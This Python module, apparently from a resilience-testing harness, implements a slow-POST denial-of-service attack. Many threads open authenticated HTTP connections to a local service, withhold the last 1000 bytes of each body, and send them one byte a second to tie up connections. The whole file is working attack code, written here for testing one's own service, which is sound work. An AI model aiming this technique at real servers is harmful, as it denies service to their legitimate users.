"""Bodies that are sent at once but for their last bytes, which come one a second."""

from __future__ import annotations

import socket
from collections import Counter
from collections.abc import Iterable
from concurrent.futures import ThreadPoolExecutor
from functools import partial
from itertools import cycle

from hostile.attacks.bodies import PATHS, TYPES
from hostile.attacks.signals import Stop
from hostile.size import Size
from hostile.target import Target, addresses

_REST = 10.0  # seconds before one that was cut off begins again
_LEFT = 1000  # bytes that are sent slowly


def run(target: Target, size: Size, stop: Stop) -> Counter[str]:
    """Keep so many unfinished until `stop`; count how often one was begun and cut off."""
    counts = Counter[str]()
    places = range(size.unfinished)
    sources, kinds = _in_turn(addresses(size.addresses), places), _in_turn(list(PATHS), places)
    with ThreadPoolExecutor(size.unfinished) as threads:
        one = partial(_renewed, target, b" " * size.body_bytes, stop)
        for found in threads.map(one, sources, kinds):
            counts += found
    return counts


def _in_turn(values: list[str], places: Iterable[int]) -> list[str]:
    """Return a value for each place, in turn."""
    return [value for value, _ in zip(cycle(values), places, strict=False)]


def _renewed(target: Target, content: bytes, stop: Stop, source: str, kind: str) -> Counter[str]:
    counts = Counter[str]()
    while not stop.is_set():
        counts["begun"] += 1
        _stall(target, content, stop, source, kind)
        counts["cut off"] += not stop.is_set()
        stop.wait(_REST)
    return counts


def _stall(target: Target, content: bytes, stop: Stop, source: str, kind: str) -> None:
    token = target.tokens[f"unfinished-{kind}"]
    head = (
        f"POST {PATHS[kind]} HTTP/1.1\r\nHost: adapter\r\nContent-Type: {TYPES[kind]}\r\n"
        f"Authorization: Bearer {token}\r\nContent-Length: {len(content)}\r\n\r\n"
    )
    try:
        with socket.create_connection(("127.0.0.1", target.web), 5, (source, 0)) as wire:
            wire.sendall(head.encode())
            wire.sendall(memoryview(content)[:-_LEFT])
            while not stop.wait(1.0):
                wire.sendall(content[:1])
    except OSError:
        return
